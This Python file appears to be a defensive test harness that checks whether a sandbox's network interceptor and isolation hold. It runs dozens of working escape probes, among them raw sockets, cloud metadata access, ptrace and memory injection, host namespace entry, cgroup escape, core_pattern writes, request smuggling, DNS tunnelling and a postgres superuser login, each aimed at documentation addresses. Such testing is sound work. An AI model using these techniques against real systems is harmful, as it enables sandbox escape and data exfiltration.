"""Tries ways around capture, one at a time, and says what came of each.

It reads a line of JSON for each attempt, `{"name": ..., ...}` with what the attempt must know, and answers with one:
`done` (the kernel let it), or the `call` that failed and its `errno`. Each attempt is a process of its own, so that none
spoils the next. What leaves is aimed at 192.0.2.1 and 2001:db8::1, where a sniffer has the last word.

`escape.py once LINE` tries one and ends.
"""
import contextlib
import ctypes
import errno
import fcntl
import json
import linecache
import os
import pty
import re
import resource
import select
import signal
import socket
import stat
import struct
import sys
import time

V4, V6, MARK = "192.0.2.1", "2001:db8::1", b"interceptor-escape"
PATIENCE = 12
if os.geteuid() == 0:
    # Whoever became root by this program's file is root altogether.
    os.setresgid(0, 0, 0)
    os.setresuid(0, 0, 0)
libc = ctypes.CDLL(None, use_errno=True)
ATTEMPTS = {}
# Of the process that is captured later; what is tried is tried by its children.
BEFORE = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
BEFORE.settimeout(2)
CALLS = "accept|recvfrom|socket|setsockopt|connect|bind|sendto|sendmsg|send|recv|open|write|rmdir|mkdir|ioctl|execv|listdir|readlink"


class Refused(OSError):
    """A refusal that the kernel did not put into an errno, or one of a raw system call."""

    def __init__(self, call, number, text=None):
        super().__init__(number, text or os.strerror(number))
        self.call = call


def attempt(name, *arguments):
    def keep(function):
        ATTEMPTS[name] = lambda given: function(given, *arguments)
        return function

    return keep


def syscall(name, number, *arguments):
    done = libc.syscall(number, *arguments)
    if done < 0:
        raise Refused(name, ctypes.get_errno())
    return done


def tcp(family, protocol=0):
    s = socket.socket(family, socket.SOCK_STREAM, protocol)
    s.settimeout(2)
    return s


def udp(family=socket.AF_INET, protocol=0):
    s = socket.socket(family, socket.SOCK_DGRAM, protocol)
    s.settimeout(2)
    return s


def heard(s):
    """What the other side says; nothing when it closes or resets, as the proxy does to what it refuses."""
    try:
        return repr(s.recv(100)) if s.recv(1, socket.MSG_PEEK) else "closed"
    except (ConnectionResetError, TimeoutError) as error:
        return type(error).__name__


def written(descriptor):
    """Writes; the answer to an earlier packet of the same socket is no answer to this one."""
    try:
        return os.write(descriptor, MARK)
    except ConnectionRefusedError:
        return os.write(descriptor, MARK)


# Packets.


@attempt("fast-open")
def fast_open(_):
    s = tcp(socket.AF_INET)
    s.sendto(MARK, 0x20000000, (V4, 443))
    return heard(s)


@attempt("fast-open-connect")
def fast_open_connect(_):
    s = tcp(socket.AF_INET)
    s.setsockopt(socket.IPPROTO_TCP, 30, 1)
    s.connect((V4, 443))
    s.send(MARK)
    return heard(s)


@attempt("mptcp", socket.SOCK_STREAM, 262)
@attempt("sctp-stream", socket.SOCK_STREAM, 132)
@attempt("sctp-seqpacket", socket.SOCK_SEQPACKET, 132)
@attempt("dccp", 6, 33)
@attempt("udp-lite", socket.SOCK_DGRAM, 136)
@attempt("raw", socket.SOCK_RAW, 253)
def other_protocol(_, kind, protocol):
    s = socket.socket(socket.AF_INET, kind, protocol)
    s.settimeout(2)
    s.connect((V4, 9))
    return s.send(MARK)


@attempt("udp-lite-v6")
def udp_lite(_):
    s = udp(socket.AF_INET6, 136)
    s.connect((V6, 9))
    return s.send(MARK)


@attempt("raw-own-header")
def own_header(_):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(MARK), 1, 0, 64, 253, 0, bytes(4), socket.inet_aton(V4))
    return s.sendto(header + MARK, (V4, 0))


@attempt("ping", socket.AF_INET, 1, 8, V4)
@attempt("ping-v6", socket.AF_INET6, 58, 128, V6)
def ping(_, family, protocol, kind, host):
    return udp(family, protocol).sendto(struct.pack(">BBHHH", kind, 0, 0, 1, 1) + MARK, (host, 0))


@attempt("packet")
def packet(_):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    for name in names:
        s.bind((name, 0))
        s.send(b"\xff" * 6 + b"\x02\0\0\0\0\x01" + b"\x08\0" + MARK)
    return names


@attempt("routing-header")
def routing_header(_):
    s = udp(socket.AF_INET6)
    segments = socket.inet_pton(socket.AF_INET6, V6)
    s.setsockopt(socket.IPPROTO_IPV6, 57, struct.pack("BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + segments)
    return s.sendto(MARK, (V6, 9))


ROUTE = b"\x83\x07\x04" + socket.inet_aton(V4) + b"\0"


@attempt("source-route")
def source_route(_):
    s = udp()
    s.setsockopt(socket.IPPROTO_IP, 4, ROUTE)
    return s.sendto(MARK, (V4, 9))


@attempt("source-route-message")
def source_route_message(_):
    return udp().sendmsg([MARK], [(socket.IPPROTO_IP, 7, ROUTE)], 0, (V4, 9))


@attempt("bound-to-device")
def bound_to_device(_):
    s = udp()
    name = next(name for _, name in socket.if_nameindex() if name != "lo")
    s.setsockopt(socket.SOL_SOCKET, 25, name.encode() + b"\0")
    return s.sendto(MARK, (V4, 9))


@attempt("packet-info")
def packet_info(_):
    for number, name in socket.if_nameindex():
        if name != "lo":
            # Port 53 is redirected, and then leaves by the interface that is asked for.
            udp().sendmsg([MARK], [(0, 8, struct.pack("iII", number, 0, 0))], 0, (V4, 53))
    return "sent"


@attempt("packet-info-v6")
def packet_info6(_):
    for number, name in socket.if_nameindex():
        if name != "lo":
            udp(socket.AF_INET6).sendmsg([MARK], [(41, 50, bytes(16) + struct.pack("I", number))], 0, (V6, 53))
    return "sent"


@attempt("mapped", f"::ffff:{V4}", 443)
@attempt("compatible", f"::{V4}", 443)
@attempt("nat64", "64:ff9b::c000:201", 443)
@attempt("6to4", "2002:c000:201::1", 443)
@attempt("ipv6", V6, 443)
@attempt("ipv4", V4, 443)
@attempt("metadata", "169.254.169.254", 80)
@attempt("metadata-v6", "fd00:ec2::254", 80)
def dial(_, host, port):
    s = tcp(socket.AF_INET6 if ":" in host else socket.AF_INET)
    s.connect((host, port))
    s.send(MARK)
    return heard(s)


@attempt("odd-family", socket.AF_INET6, socket.AF_INET)
@attempt("no-family", socket.AF_INET, 0)
def odd_family(_, family, said):
    address = struct.pack("<H", said) + struct.pack(">H", 9) + socket.inet_aton(V4) + bytes(8)
    s = udp(family)
    if libc.sendto(s.fileno(), MARK, len(MARK), 0, address, len(address)) < 0:
        raise Refused("sendto", ctypes.get_errno())
    return "sent"


@attempt("multicast", socket.AF_INET, ("224.0.0.99", 9))
@attempt("broadcast", socket.AF_INET, ("255.255.255.255", 9))
@attempt("link-local", socket.AF_INET6, ("fe80::99", 9))
@attempt("datagram", socket.AF_INET, (V4, 9))
@attempt("datagram-v6", socket.AF_INET6, (V6, 9))
@attempt("quic", socket.AF_INET, (V4, 443))
def datagram(_, family, to):
    s = udp(family)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    if to[0].startswith("fe80"):
        to = (*to, 0, max(number for number, name in socket.if_nameindex() if name != "lo"))
    return s.sendto(MARK, to)


@attempt("connected-datagram")
def connected_datagram(_):
    s = udp()
    s.connect((V4, 443))
    return s.send(MARK)


@attempt("repair")
def repair(_):
    s = tcp(socket.AF_INET)
    s.setsockopt(socket.IPPROTO_TCP, 19, 1)
    s.bind(("0.0.0.0", 0))
    s.connect((V4, 443))
    s.setsockopt(socket.IPPROTO_TCP, 19, 0)
    return s.send(MARK)


@attempt("listen")
def listen(given):
    s = tcp(socket.AF_INET)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", given["port"]))
    s.listen()
    return f"reached from {s.accept()[1][0]}"


@attempt("hear")
def hear(given):
    s = udp()
    s.bind(("0.0.0.0", given["port"]))
    return f"heard from {s.recvfrom(100)[1][0]}"


@attempt("listen-before")
def listen_before(given):
    BEFORE.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    BEFORE.bind(("0.0.0.0", given["port"]))
    BEFORE.listen()
    try:
        return f"reached from {BEFORE.accept()[1][0]}"
    finally:
        # Others of the same network try the same; it may have been reset by now.
        with contextlib.suppress(OSError):
            BEFORE.shutdown(socket.SHUT_RDWR)


@attempt("smc", 43)
@attempt("rds", 21, socket.SOCK_SEQPACKET)
@attempt("kcm", 41, socket.SOCK_DGRAM)
@attempt("alg", 38, socket.SOCK_SEQPACKET)
@attempt("xdp", 44, socket.SOCK_RAW)
@attempt("vsock", 40)
@attempt("bluetooth", 31, socket.SOCK_SEQPACKET)
@attempt("can", 29, socket.SOCK_RAW)
@attempt("qipcrtr", 42, socket.SOCK_DGRAM)
@attempt("tipc", 30)
@attempt("nfc", 39)
@attempt("x25", 9, socket.SOCK_SEQPACKET)
@attempt("ppp", 24, socket.SOCK_DGRAM)
@attempt("rxrpc", 33, socket.SOCK_DGRAM)
@attempt("ieee802154", 36, socket.SOCK_DGRAM)
@attempt("netlink-netfilter", 16, socket.SOCK_RAW, 12)
@attempt("netlink-audit", 16, socket.SOCK_RAW, 9)
def family(_, number, kind=socket.SOCK_STREAM, protocol=0):
    socket.socket(number, kind, protocol)
    return "a socket"


@attempt("mount-network")
def mount_network(given):
    # Any file system will do: what may mount this may mount those of other hosts.
    syscall("mount", 165, b"escape", given["folder"].encode(), b"tmpfs", 0, 0)
    syscall("umount", 166, given["folder"].encode(), 2)
    return "mounted"


@attempt("tun")
def tun(_):
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"ic-escape", 1))
    return "an interface"


@attempt("new-interface")
def new_interface(_):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    kind = struct.pack("HH", 9, 1) + b"veth\0\0\0\0"
    info = struct.pack("HH", 4 + len(kind), 18) + kind
    body = struct.pack("BxHiII", 0, 0, 0, 0, 0xFFFFFFFF) + info
    s.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
    code = struct.unpack_from("i", s.recv(4096), 16)[0]
    if code:
        raise Refused("RTM_NEWLINK", -code)
    return "an interface"


# Where sockets come from, and who uses them.


@attempt("inherited")
def inherited(_):
    sent, last = [], errno.EBADF
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode) and number != BEFORE.fileno():
                last = errno.EBADF
                sent.append(written(number))
        except OSError as error:
            if error.errno != errno.EBADF:
                last = error.errno
    if not sent:
        raise Refused("write", last)
    return sent


@attempt("standard-input")
def standard_input(_):
    target = os.readlink("/proc/self/fd/0")
    if not target.startswith("socket:"):
        raise Refused("write", errno.EBADF, target)
    return written(0)


@attempt("unix")
def unix(given):
    """Connects to a process outside, takes the socket that it passes, and sends over that."""
    path = given["path"]
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    s.connect("\0" + path[1:] if path.startswith("@") else path)
    _, descriptors, _, _ = socket.recv_fds(s, 100, 4)
    return [written(descriptor) for descriptor in descriptors]


@attempt("unix-connect")
def unix_connect(given):
    s = socket.socket(socket.AF_UNIX, given.get("kind", socket.SOCK_STREAM))
    s.settimeout(2)
    s.connect(given["path"])
    return "connected"


@attempt("superuser-by-socket")
def superuser(given):
    """What a local server trusts whoever comes by its socket with: the name of its superuser."""
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect(given["path"])
    body = struct.pack(">I", 196608) + b"user\0postgres\0database\0orders\0\0"
    s.send(struct.pack(">I", 4 + len(body)) + body)
    answer = s.recv(1000)
    if answer.startswith(b"R\0\0\0\x08\0\0\0\0"):
        return "a session as postgres"
    raise Refused("recv", errno.ECONNRESET, repr(answer))


@attempt("take-descriptor")
def take_descriptor(given):
    handle = syscall("pidfd_open", 434, given["pid"], 0)
    for number in range(3, 64):
        descriptor = libc.syscall(438, handle, number, 0)
        if descriptor >= 0:
            return os.readlink(f"/proc/self/fd/{descriptor}")
    raise Refused("pidfd_getfd", ctypes.get_errno())


@attempt("trace")
def trace(given):
    if libc.ptrace(0x4206, given["pid"], 0, 0) < 0:
        raise Refused("ptrace", ctypes.get_errno())
    libc.ptrace(17, given["pid"], 0, 0)
    return "attached"


@attempt("inject")
def inject(given):
    word = ctypes.create_string_buffer(8)
    own = (ctypes.c_uint64 * 2)(ctypes.addressof(word), 1)
    # An address that nobody has: EFAULT says that it was allowed to try.
    theirs = (ctypes.c_uint64 * 2)(8, 1)
    if libc.syscall(311, given["pid"], own, 1, theirs, 1, 0) < 0 and ctypes.get_errno() != errno.EFAULT:
        raise Refused("process_vm_writev", ctypes.get_errno())
    return "allowed"


@attempt("memory")
def memory(given):
    os.close(os.open(f"/proc/{given['pid']}/mem", os.O_RDWR))
    return "opened"


@attempt("kill")
def kill(given):
    try:
        os.kill(given["pid"], 0)
    except OSError as error:
        raise Refused("kill", error.errno)
    return "could be signalled"


@attempt("io-uring")
def io_uring(_):
    os.close(syscall("io_uring_setup", 425, 4, ctypes.create_string_buffer(120)))
    return "a ring"


@attempt("binder")
def binder(_):
    return os.open("/dev/binder", os.O_RDWR)


@attempt("another-cgroup")
def another_cgroup(given):
    worst = None
    for path in dict.fromkeys([given["cgroup"] + "/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
                               "/sys/fs/cgroup/unified/cgroup.procs"]):
        try:
            file = os.open(path, os.O_WRONLY)
            os.write(file, str(os.getpid()).encode())
            return path
        except OSError as error:
            worst = worst or error
            if error.errno != errno.ENOENT:
                worst = error
    raise Refused("open", worst.errno)


@attempt("born-in-another-cgroup")
def born_elsewhere(given):
    folder = os.open(given["cgroup"], os.O_RDONLY | os.O_DIRECTORY)
    arguments = (ctypes.c_uint64 * 11)(0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, folder)
    child = syscall("clone3", 435, arguments, 88)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "born"


@attempt("mount-cgroup")
def mount_cgroup(given):
    syscall("mount", 165, b"cgroup2", given["folder"].encode(), b"cgroup2", 0, 0)
    syscall("umount", 166, given["folder"].encode(), 2)
    return "mounted"


@attempt("own-cgroup-is-delegated")
def delegated(_):
    last = OSError(errno.ENOENT, "no cgroup is to be seen")
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in files:
            if name in ("cgroup.procs", "cgroup.threads", "cgroup.subtree_control"):
                try:
                    os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
                    return os.path.join(folder, name)
                except OSError as error:
                    last = OSError(error.errno, error.strerror)
    raise Refused("open", last.errno)


@attempt("legacy-cgroup")
def legacy_cgroup(_):
    for line in open("/proc/self/mountinfo"):
        if "net_cls" in line or "net_prio" in line:
            folder = os.path.join(line.split()[4], "ic-escape")
            os.mkdir(folder)
            os.rmdir(folder)
            return folder
    raise Refused("open", errno.ENOENT, "no legacy controller is to be seen")


@attempt("set-user-id")
def set_user_id(given):
    """Whether a program that is set-user-id root makes us more than we are."""
    def rights(text):
        return int(re.search(r"CapEff:\s*(\w+)", text)[1], 16)

    own = rights(open("/proc/self/status").read())
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.dup2(into, 1)
            os.execv(given["program"], ["cat", "/proc/self/status"])
        except OSError as error:
            os._exit(error.errno)
    os.close(into)
    said = os.read(out, 65536).decode()
    failed = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if failed:
        raise Refused("execve", failed)
    theirs = rights(said)
    if theirs & ~own == 0:
        raise Refused("execve", errno.EPERM, "nothing was gained")
    return f"{theirs:x}"


@attempt("user-namespace", 0x10000000 | 0x40000000)
@attempt("mount-namespace", 0x00020000)
def namespace(_, flags):
    syscall("unshare", 272, flags)
    return "a namespace"


@attempt("user-namespace-clone")
def namespace_clone(_):
    child = syscall("clone", 56, 0x10000000 | 17, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "a namespace"


@attempt("user-namespace-clone3")
def namespace_clone3(_):
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
    child = syscall("clone3", 435, arguments, 88)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "a namespace"


@attempt("host-namespace")
def host_namespace(given):
    """By a process of the host's, which a run does not see, or by the first of its own."""
    pid = given["outside"] if os.path.exists(f"/proc/{given['outside']}") else 1
    file = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    syscall("setns", 308, file, 0)
    return "entered"


@attempt("terminal")
def terminal(_):
    """Types into a terminal that is our own, which is allowed nowhere in a run."""
    child, master = pty.fork()
    if child == 0:
        try:
            fcntl.ioctl(0, 0x5412, b"x")
            os._exit(0)
        except OSError as error:
            os._exit(error.errno)
    _, status = os.waitpid(child, 0)
    if os.waitstatus_to_exitcode(status):
        raise Refused("TIOCSTI", os.waitstatus_to_exitcode(status))
    return "typed"


@attempt("keyring")
def keyring(_):
    return syscall("keyctl", 250, 0, -4, 1)


@attempt("local-service")
def local_service(given):
    s = tcp(socket.AF_INET)
    s.connect(("127.0.0.1", given["port"]))
    s.send(MARK)
    said = heard(s)
    if "host" not in said:
        raise Refused("recv", errno.ECONNRESET, said)
    return said


@attempt("zero")
def zero(given):
    s = tcp(socket.AF_INET)
    s.connect(("0.0.0.0", given["port"]))
    s.send(MARK)
    said = heard(s)
    if "host" not in said:
        raise Refused("recv", errno.ECONNRESET, said)
    return said


@attempt("zero-v6")
def zero6(given):
    s = tcp(socket.AF_INET6)
    s.connect(("::ffff:0.0.0.0", given["port"]))
    s.send(MARK)
    said = heard(s)
    if "host" not in said:
        raise Refused("recv", errno.ECONNRESET, said)
    return said


# The interceptor itself.


@attempt("take-port")
def take_port(given):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("127.0.0.1", given["proxy"]))
    s.listen()
    return "bound"


@attempt("bpf")
def bpf(_):
    return syscall("bpf", 321, 11, ctypes.create_string_buffer(128), 128)


@attempt("pins")
def pins(given):
    return os.listdir(given["pins"])


@attempt("remove-cgroup")
def remove_cgroup(given):
    # Not empty outside, and not to be seen inside: EBUSY is as far as anybody gets who may.
    try:
        os.rmdir(given["slice"])
    except OSError as error:
        if error.errno == errno.EBUSY:
            return "only what is in it stopped it"
        raise
    return "removed"


@attempt("flood")
def flood(_):
    """More redirected sockets than one run may have, each used."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    sockets = []
    for number in range(min(most, 20000) - 50):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.connect((V4, 53))
            s.send(MARK)
        except ConnectionRefusedError:
            # The answer to an earlier datagram, which nobody may see as a refusal of this one.
            if number < 1000:
                continue
            raise
        sockets.append(s)
    return f"{len(sockets)} sockets"


@attempt("proxy-itself")
def proxy_itself(given):
    s = tcp(socket.AF_INET)
    s.connect(("127.0.0.1", given["proxy"]))
    s.send(MARK)
    said = heard(s)
    if said.startswith("b"):
        return said
    raise Refused("recv", errno.ECONNRESET, said)


@attempt("read-file")
def read_file(given):
    with open(given["path"], "rb") as file:
        return f"{len(file.read())} bytes"


@attempt("core-pattern")
def core_pattern(_):
    path = "/proc/sys/kernel/core_pattern"
    text = open(path).read()
    file = os.open(path, os.O_WRONLY)
    os.write(file, text.encode())
    return "written"


@attempt("sysrq")
def sysrq(_):
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "opened"


@attempt("module")
def module(_):
    """Not a module: ENOEXEC says that it was allowed to try."""
    if libc.syscall(175, b"not a module", 12, b"") < 0 and ctypes.get_errno() != errno.ENOEXEC:
        raise Refused("init_module", ctypes.get_errno())
    return "allowed"


@attempt("device-node")
def device_node(given):
    path = os.path.join(given["folder"], "ic-node")
    if os.path.exists(path):
        os.unlink(path)
    try:
        os.mknod(path, 0o600 | 0o060000, os.makedev(7, 0))
    except OSError as error:
        raise Refused("mknod", error.errno)
    os.unlink(path)
    return "made"


# Inside protocols.


def client_hello(extensions):
    body = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


def server_name(name):
    entry = b"\0" + struct.pack(">H", len(name)) + name
    listed = struct.pack(">H", len(entry)) + entry
    return struct.pack(">HH", 0, len(listed)) + listed


@attempt("tls", 443, client_hello(server_name(b"example.com")))
@attempt("ech", 443, client_hello(server_name(b"example.com") + struct.pack(">HH", 0xFE0D, 8) + bytes(8)))
@attempt("fronting", 443, client_hello(server_name(b"db.internal")))
@attempt("no-name", 8443, client_hello(b""))
@attempt("connect-proxy", 3128, b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n")
@attempt("absolute-form", 3128, b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n")
@attempt("socks", 1080, b"\x05\x01\0")
@attempt("http2", 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))
@attempt("upgrade", 80, b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
@attempt("smtp-starttls", 25, b"EHLO x\r\nSTARTTLS\r\n")
@attempt("ssh", 22, b"SSH-2.0-escape\r\n")
@attempt("dns-over-tls", 853, client_hello(server_name(b"dns.example")))
@attempt("unknown-protocol", 9999, b"\x00\x01\x02 interceptor-escape \xff")
@attempt("smuggling", 80, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET")
def speak(_, port, text):
    s = tcp(socket.AF_INET)
    s.connect((V4, port))
    s.send(text)
    return heard(s)


@attempt("injected-before-tls")
def injected(_):
    """A start-up message in clear, in one segment with the request for TLS (as CVE-2021-23222 had it)."""
    s = tcp(socket.AF_INET)
    s.connect(("db.internal", 5432))
    body = struct.pack(">I", 196608) + b"user\0app\0database\0orders\0\0"
    s.send(struct.pack(">II", 8, 80877103) + struct.pack(">I", 4 + len(body)) + body)
    answer, begun = b"", time.time()
    while time.time() - begun < 2:
        try:
            part = s.recv(1000)
        except OSError:
            break
        if not part:
            break
        answer += part
    if b"R\0\0\0" in answer:
        return repr(answer)
    raise Refused("recv", errno.ECONNRESET, repr(answer))


@attempt("tunnel-by-name", b"\x10\0\x01", socket.SOCK_DGRAM)
@attempt("tunnel-by-name-tcp", b"\x10\0\x01", socket.SOCK_STREAM)
def tunnel(_, question, kind):
    name = b"\x3f" + b"a" * 63 + b"\x06tunnel\x07example\0"
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + question
    s = udp() if kind == socket.SOCK_DGRAM else tcp(socket.AF_INET)
    s.connect((V4, 53))
    s.send(query if kind == socket.SOCK_DGRAM else struct.pack(">H", len(query)) + query)
    return heard(s)


def call_of(error):
    """The call that raised it: named by itself, or by the line of this file where it was raised."""
    if isinstance(error, Refused):
        return error.call
    trace, line = error.__traceback__, ""
    while trace:
        if trace.tb_frame.f_code.co_filename == __file__:
            line = linecache.getline(__file__, trace.tb_lineno)
        trace = trace.tb_next
    found = re.findall(rf"\b({CALLS})\(", line)
    return found[-1] if found else line.strip()


def tried(given):
    try:
        said = ATTEMPTS[given["name"]](given)
        return {"done": True, "said": str(said)}
    except OSError as error:
        name = errno.errorcode.get(error.errno, type(error).__name__)
        return {"done": False, "call": call_of(error), "errno": name, "said": str(error.strerror or error)}
    except Exception as error:  # A broken attempt must not look like a closed way.
        return {"done": False, "call": "attempt", "errno": "BROKEN", "said": repr(error)}


def isolated(given):
    # Thousands of calls take long where others are at work.
    patience = 3 * PATIENCE if given["name"] == "flood" else PATIENCE
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(patience)
        os.write(into, json.dumps(tried(given)).encode())
        os._exit(0)
    os.close(into)
    text = b""
    while select.select([out], [], [], patience + 2)[0]:
        part = os.read(out, 65536)
        if not part:
            break
        text += part
    os.close(out)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    # One that had to be killed neither got through nor was refused.
    return json.loads(text) if text else {"done": False, "call": "attempt", "errno": "TIMEOUT", "said": "killed"}


if sys.argv[1:2] == ["once"]:
    print(json.dumps(tried(json.loads(sys.argv[2]))), flush=True)
else:
    print("ready", flush=True)
    for line in sys.stdin:
        print(json.dumps(isolated(json.loads(line))), flush=True)
